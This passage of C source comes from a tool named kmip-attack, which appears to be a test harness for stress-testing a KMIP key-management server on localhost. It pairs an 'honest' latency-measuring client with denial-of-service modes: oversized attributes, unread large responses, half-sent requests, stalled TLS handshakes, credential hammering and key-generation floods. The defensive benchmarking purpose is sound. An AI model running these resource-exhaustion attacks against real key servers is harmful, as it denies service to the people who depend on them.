				return 1;
			}
		}
		ttlv_enc_free(&req);
		kmip_client_close(cl), cl = NULL;
		setup_level = groups;
		fprintf(stderr, "kmip-attack: attrs: object %s with %u Object Group values\n", uid, groups);
		enc_on_uid(&req, KMIP_OPERATION_GET_ATTRIBUTES, uid, 1);
		o->depth = 1;
		go_point(o);
		for (i = 0; i < (o->conns ? o->conns : 1); i++)
			spawn(&k, child_repeat, o, ctx, &req);
	} else if (strcmp(o->mode, "bigresp") == 0) {
		/* The largest Secret Data the server takes, from --size (1 MiB) down, halving on refusal. */
		size_t size = o->size ? o->size : MIB;

		for (;;) {
			int ok;

			enc_register_secret(&req, size);
			cl = connect_retry(o, ctx, NULL);
			ok = exchange(&cl, &req, 1, &resp, &a) == 0;
			if (ok) {
				ok = item_status(resp, 0) == KMIP_RESULT_STATUS_SUCCESS &&
				    resp_uid(resp, uid, sizeof(uid)) == 0;
				ttlv_arena_free(a);
			}
			ttlv_enc_free(&req);
			kmip_client_close(cl), cl = NULL;
			if (ok)
				break;
			if ((size /= 2) < 1024) {
				fprintf(stderr, "kmip-attack: bigresp: no large object could be registered\n");
				return 1;
			}
		}
		setup_level = size;
		fprintf(stderr, "kmip-attack: bigresp: object %s of %zu bytes\n", uid, size);
		enc_on_uid(&req, KMIP_OPERATION_GET, uid, o->count ? o->count : 64);
		if (o->conns == 0)
			o->conns = 40;
		go_point(o);
		if ((k.pid[0] = fork()) == 0) {
			die_with_parent();
			hold_unread(o, ctx, &req, req.len);
			_exit(0);
		}
		k.n = k.pid[0] > 0;
	} else if (strcmp(o->mode, "partial") == 0) {
		/* A Register of a large Secret Data, of which only the first sent_size bytes go out. */
		enc_register_secret(&req, o->size ? o->size : 3 * MIB);
		if (o->sent_size == 0 || o->sent_size > req.len)
			o->sent_size = req.len < MIB ? req.len / 2 : MIB;
		if (o->conns == 0)
			o->conns = 50;
		go_point(o);
		if ((k.pid[0] = fork()) == 0) {
			die_with_parent();
			hold_unread(o, ctx, &req, o->sent_size);
			_exit(0);
		}
		k.n = k.pid[0] > 0;
	} else if (strcmp(o->mode, "handshake") == 0) {
		if (o->count == 0)
			o->count = 300;
		if (o->conns == 0)
			o->conns = 8;
		go_point(o);
		if ((k.pid[0] = fork()) == 0) {
			die_with_parent();
			run_handshake(o);
			_exit(0);
		}
		k.n = k.pid[0] > 0;
	} else if (strcmp(o->mode, "creds") == 0) {
		go_point(o);
		for (i = 0; i < (o->conns ? o->conns : 4); i++)
			spawn(&k, child_creds, o, ctx, NULL);
	} else if (strcmp(o->mode, "locate") == 0) {
		unsigned fillers = 4, share = ((o->count ? o->count : 50000) + fillers - 1) / fillers;

		for (i = 0; i < fillers; i++)
			spawn(&k, child_fill, o, ctx, &share);
		for (i = 0; i < k.n; i++)
			(void)waitpid(k.pid[i], NULL, 0);
		k.n = 0;
		setup_level = ctr->level;
		fprintf(stderr, "kmip-attack: locate: %" PRIu64 " objects made\n", setup_level);
		go_point(o);
		if (o->depth == 0)
			o->depth = 8;
		for (i = 0; i < (o->conns ? o->conns : 8); i++)
			spawn(&k, child_locate, o, ctx, NULL);
	} else if (strcmp(o->mode, "keygen") == 0) {
		enc_create_key_pair(&req, o->count ? o->count : 4096);
		o->depth = 1;
		go_point(o);
		for (i = 0; i < (o->conns ? o->conns : 8); i++)
			spawn(&k, child_repeat, o, ctx, &req);
	} else {
		fprintf(stderr, "kmip-attack: unknown mode %s\n", o->mode);
		return 2;
	}
	t0 = util_now();
	end = t0 + o->seconds;
	while (!stopping && util_now() < end)
		nap(50);
	secs = util_now() - t0;
	kill_kids(&k);
	printf("attack=%s secs=%.1f sent=%" PRIu64 " ok=%" PRIu64 " refused=%" PRIu64 " closed=%" PRIu64
	    " conns=%" PRIu64 " mib=%.1f level=%" PRIu64 " level_max=%" PRIu64 " setup=%" PRIu64 "\n", o->mode,
	    secs, ctr->sent, ctr->ok, ctr->refused, ctr->closed, ctr->conns, ctr->bytes / (double)MIB, ctr->level,
	    ctr->level_max, setup_level);
	fflush(stdout);
	SSL_CTX_free(ctx);
	return 0;
}

/* ---- the honest client ---- */

/* What one honest series does at each due time. */
enum series_kind { S_GET, S_CONNECT, S_EC };

/* The server's VmRSS in KiB, or 0. */
static unsigned long
rss_kib(pid_t pid)
{
	char path[64], line[256];
	unsigned long v = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	if ((f = fopen(path, "r")) == NULL)
		return 0;
	while (fgets(line, sizeof(line), f) != NULL)
		if (sscanf(line, "VmRSS: %lu", &v) == 1)
			break;
	fclose(f);
	return v;
}

/* The CPU seconds (user + system) the process has used itself, or 0. */
static double
cpu_secs(pid_t pid)
{
	char path[64], buf[1024], *p;
	unsigned long ut = 0, st = 0;
	FILE *f;
	size_t n;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	if ((f = fopen(path, "r")) == NULL)
		return 0;
	n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	buf[n] = '\0';
	if ((p = strrchr(buf, ')')) == NULL ||
	    sscanf(p + 2, "%*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %lu %lu", &ut, &st) != 2)
		return 0;
	return (double)(ut + st) / (double)sysconf(_SC_CLK_TCK);
}

/*
 * One honest series: after *start is set (shared with the parent), issues its request at start + i / rate
 * for the measured seconds, one in flight, each latency taken from its due time (and its service time from
 * when it was sent). Failures count as errors (with their latency) and the connection is opened again.
 * Gives up issuing 30 s after the window; requests
 * due and never issued then count as errors with the latency they had reached.
 */
static void
run_series(const struct opts *o, SSL_CTX *ctx, enum series_kind kind, double rate, const char *uid,
    struct series *s, volatile double *start)
{
	struct ttlv_enc req;
	struct kmip_client *cl = NULL;
	uint64_t due_n = (uint64_t)(o->seconds * rate), i;
	double t0, giveup, sent;

	if (kind == S_EC)
		enc_create_key_pair(&req, 0);
	else
		enc_on_uid(&req, KMIP_OPERATION_GET, uid, 1);
	if (kind != S_CONNECT)
		cl = try_connect(o, ctx, NULL, o->timeout_ms);
	__atomic_store_n(&s->ready, 1, __ATOMIC_RELEASE);
	while (*start == 0)
		nap(2);
	t0 = *start;
	giveup = t0 + o->seconds + 30;
	for (i = 0; i < due_n && s->n < MAX_SAMPLES; i++) {
		double due = t0 + (double)i / rate, now = util_now();
		struct ttlv_arena *a;
		struct ttlv *resp;
		char *cause = NULL;
		bool ok;

		if (now > giveup) {
			s->lat[s->n++] = now - due;
			s->errors++;
			continue;
		}
		sleep_until(due);
		sent = util_now();
		if (cl == NULL)
			cl = try_connect(o, ctx, NULL, o->timeout_ms);
		ok = cl != NULL && kmip_client_call(cl, &req, &resp, &a, &cause) == 0;
		if (ok) {
			ok = item_status(resp, 0) == KMIP_RESULT_STATUS_SUCCESS;
			ttlv_arena_free(a);
		} else {
			free(cause);
			kmip_client_close(cl), cl = NULL;
		}
		s->svc[s->nsvc++] = util_now() - sent;
		s->lat[s->n++] = util_now() - due;
		if (!ok)
			s->errors++;
		if (kind == S_CONNECT)
			kmip_client_close(cl), cl = NULL;
	}
	kmip_client_close(cl);
	ttlv_enc_free(&req);
}

/*
 * Prints a series' fields: NAME_n, NAME_p50, NAME_p99, NAME_max (ms, from the due times), NAME_err, and
 * NAME_svc_p50, NAME_svc_p99, NAME_svc_max (ms, from sending).
 */
static void
print_series(const char *name, struct series *s)
{
	size_t n = s->n;

	util_sort_doubles(s->lat, n);
	if (n == 0) {
		printf(" %s_n=0 %s_p50=0 %s_p99=0 %s_max=0 %s_err=%" PRIu64, name, name, name, name, name, s->errors);
		return;
	}
	printf(" %s_n=%zu %s_p50=%.3f %s_p99=%.3f %s_max=%.3f %s_err=%" PRIu64, name, n, name,
	    s->lat[n / 2] * 1e3, name, s->lat[n * 99 / 100] * 1e3, name, s->lat[n - 1] * 1e3, name, s->errors);
	n = s->nsvc;
	util_sort_doubles(s->svc, n);
	if (n > 0)
		printf(" %s_svc_n=%zu %s_svc_p50=%.3f %s_svc_p99=%.3f %s_svc_max=%.3f", name, n, name,
		    s->svc[n / 2] * 1e3, name, s->svc[n * 99 / 100] * 1e3, name, s->svc[n - 1] * 1e3);
}

/* Runs the honest client; returns the exit status. */
static int
honest(const struct opts *o)
{
	static const char *names[3] = { "get", "conn", "ec" };
	SSL_CTX *ctx = client_ctx(o, o->cert);
	struct series *s[3];
	volatile double *start;
	double rates[3] = { o->rate, o->connect_rate, o->ec_rate }, c0 = 0, c1 = 0, t_start, t_end, t_c = 0;
	struct kmip_client *cl;
	struct ttlv_enc req;
	struct ttlv_arena *a;
	struct ttlv *resp;
	char uid[128], *cause = NULL;
	pid_t pid[3] = { 0, 0, 0 };
	unsigned long rss0 = 0, rss_peak = 0;
	struct stat st;
	int i, alive;

	signal(SIGPIPE, SIG_IGN);
	start = mmap(NULL, sizeof(double), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (start == MAP_FAILED)
		return 1;
	*start = 0;
	for (i = 0; i < 3; i++) {
		s[i] = mmap(NULL, sizeof(struct series), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
		if (s[i] == MAP_FAILED)
			return 1;
		s[i]->n = s[i]->nsvc = s[i]->errors = s[i]->ready = 0;
	}
	/* The key the Gets fetch, made before anything is timed. */
	if (kmip_client_connect(ctx, o->host, o->port, NULL, o->timeout_ms, &cl, &cause) != 0) {
		fprintf(stderr, "kmip-attack: honest: %s\n", cause);
		return 1;
	}
	request_begin(&req, 1, NULL, NULL);
	item_create_aes(&req, 0);
	request_end(&req);
	if (kmip_client_call(cl, &req, &resp, &a, &cause) != 0 || item_status(resp, 0) != KMIP_RESULT_STATUS_SUCCESS ||
	    resp_uid(resp, uid, sizeof(uid)) != 0) {
		fprintf(stderr, "kmip-attack: honest: the key could not be created\n");
		return 1;
	}
	ttlv_arena_free(a);
	ttlv_enc_free(&req);
	kmip_client_close(cl);
	for (i = 0; i < 3; i++) {
		if (rates[i] <= 0)
			continue;
		if ((pid[i] = fork()) == 0) {
			die_with_parent();
			run_series(o, ctx, (enum series_kind)i, rates[i], uid, s[i], start);
			_exit(0);
		}
	}
	for (i = 0; i < 3; i++)
		while (pid[i] > 0 && !__atomic_load_n(&s[i]->ready, __ATOMIC_ACQUIRE))
			nap(5);
	say_ready(o);
	while (o->go != NULL && stat(o->go, &st) != 0)
		nap(10);
	if (o->server_pid > 0) {
		rss_peak = rss0 = rss_kib(o->server_pid);
		c0 = cpu_secs(o->server_pid);
	}
	t_start = util_now();
	*start = t_start;
	t_end = t_start + o->seconds;
	do {
		alive = 0;
		for (i = 0; i < 3; i++)
			if (pid[i] > 0 && waitpid(pid[i], NULL, WNOHANG) == 0)
				alive++;
		if (o->server_pid > 0) {
			unsigned long r = rss_kib(o->server_pid);

			if (r > rss_peak)
				rss_peak = r;
			if (t_c == 0 && util_now() >= t_end) {
				c1 = cpu_secs(o->server_pid);	/* the loop's share over the window */
				t_c = util_now();
			}
		}
		if (alive)
			nap(50);
	} while (alive);
	if (t_c == 0) {
		c1 = o->server_pid > 0 ? cpu_secs(o->server_pid) : 0;
		t_c = util_now();
	}
	printf("label=%s secs=%.0f", o->label, o->seconds);
	for (i = 0; i < 3; i++)
		print_series(names[i], s[i]);
	printf(" rss_start_kib=%lu rss_peak_kib=%lu loop_cpu=%.2f elapsed=%.1f\n", rss0, rss_peak,
	    o->server_pid > 0 ? (c1 - c0) / (t_c - t_start) : 0, util_now() - t_start);
	fflush(stdout);
	SSL_CTX_free(ctx);
	return 0;
}

static void
usage(void)
{
	fprintf(stderr,
	    "usage: kmip-attack --certs DIR -p PORT -m MODE [-t SECONDS] [--ready FILE] [--go FILE] [options]\n"
	    "  -m honest [--go FILE] [--rate 20] [--connect-rate 2] [--ec-rate 2] [--server-pid PID] [--label L]\n"
	    "  -m rsa       batches of --count (16) crafted Transparent RSA Private Keys, --conns (1) connections\n"
	    "  -m attrs     one key with --count (60000, halved until accepted) Object Group values, then Get\n"
	    "               Attributes in a loop on --conns (1); level = values on the object\n"
	    "  -m bigresp   a --size (1 MiB, halved until accepted) Secret Data, then --conns (40) connections each\n"
	    "               sending --count (64)\n"
	    "               Gets of it in one batch and never reading; level = connections holding one\n"
	    "  -m handshake --count (300) TCP connections that never send a ClientHello, reopened when closed,\n"
	    "               and --conns (8) that connect and close again at once; level = silent ones connected\n"
	    "  -m creds     --conns (4) processes reconnecting (resumed) and sending 3 wrong Credentials each time\n"
	    "  -m locate    --count (50000) AES keys, then --conns (8) x --depth (8) Locates in flight\n"
	    "  -m keygen    --conns (8) CreateKeyPair RSA-(--count, 4096) in flight continuously\n"
	    "  -m partial   --conns (50) connections each sending --sent (1 MiB) of a Register of --size (3 MiB)\n"
	    "               and stopping; level = connections holding one\n"
	    "  --cert NAME  client certificate (default client for honest, client2 for attackers)\n"
	    "  --timeout MS socket timeouts (default 120000); --host ADDR (127.0.0.1)\n"
	    "  --source ADDR attackers' source address (default 127.0.0.2, as another host; none: the system's)\n");
	exit(2);
}

int
main(int argc, char **argv)
{
	static const struct option lo[] = {
		{ "certs", 1, NULL, 'C' }, { "host", 1, NULL, 'H' }, { "port", 1, NULL, 'p' },
		{ "mode", 1, NULL, 'm' }, { "seconds", 1, NULL, 't' }, { "ready", 1, NULL, 'R' },
		{ "go", 1, NULL, 'G' }, { "rate", 1, NULL, 'r' }, { "connect-rate", 1, NULL, 'c' },
		{ "ec-rate", 1, NULL, 'e' }, { "server-pid", 1, NULL, 'P' }, { "label", 1, NULL, 'L' },
		{ "conns", 1, NULL, 'n' }, { "depth", 1, NULL, 'd' }, { "count", 1, NULL, 'k' },
		{ "size", 1, NULL, 's' }, { "sent", 1, NULL, 'S' }, { "cert", 1, NULL, 'x' },
		{ "timeout", 1, NULL, 'T' }, { "source", 1, NULL, 'F' }, { NULL, 0, NULL, 0 },
	};
	struct opts o;
	int c;

	memset(&o, 0, sizeof(o));
	o.host = "127.0.0.1";
	o.seconds = 10;
	o.rate = 20;
	o.connect_rate = 2;
	o.ec_rate = 2;
	o.label = "-";
	o.timeout_ms = 120000;
	while ((c = getopt_long(argc, argv, "p:m:t:", lo, NULL)) != -1) {
		switch (c) {
		case 'C': o.certs = optarg; break;
		case 'H': o.host = optarg; break;
		case 'p': o.port = (unsigned)atoi(optarg); break;
		case 'm': o.mode = optarg; break;
		case 't': o.seconds = atof(optarg); break;
		case 'R': o.ready = optarg; break;
		case 'G': o.go = optarg; break;
		case 'r': o.rate = atof(optarg); break;
		case 'c': o.connect_rate = atof(optarg); break;
		case 'e': o.ec_rate = atof(optarg); break;
		case 'P': o.server_pid = (pid_t)atoi(optarg); break;
		case 'L': o.label = optarg; break;
		case 'n': o.conns = (unsigned)atoi(optarg); break;
		case 'd': o.depth = (unsigned)atoi(optarg); break;
		case 'k': o.count = (unsigned)atoi(optarg); break;
		case 's': o.size = (size_t)atol(optarg); break;
		case 'S': o.sent_size = (size_t)atol(optarg); break;
		case 'x': o.cert = optarg; break;
		case 'T': o.timeout_ms = atoi(optarg); break;
		case 'F': o.source = optarg; break;
		default: usage();
		}
	}
	if (o.certs == NULL || o.port == 0 || o.port > 65535 || o.mode == NULL || o.seconds <= 0 ||
	    o.timeout_ms <= 0 || o.conns > MAX_CHILDREN || o.depth > 1024 || o.size > 64 * MIB)
		usage();
	if (strcmp(o.mode, "honest") == 0) {
		if (o.cert == NULL)
			o.cert = "client";
		if (o.rate > 1000 || o.connect_rate > 100 || o.ec_rate > 100)
			usage();
		return honest(&o);
	}
	if (o.cert == NULL)
		o.cert = "client2";
	if (o.source == NULL)
		o.source = "127.0.0.2";
	if (strcmp(o.source, "none") != 0) {
		source.sin_family = AF_INET;
		if (inet_pton(AF_INET, o.source, &source.sin_addr) != 1)
			usage();
		source_set = true;
	}
	return attack(&o);
}
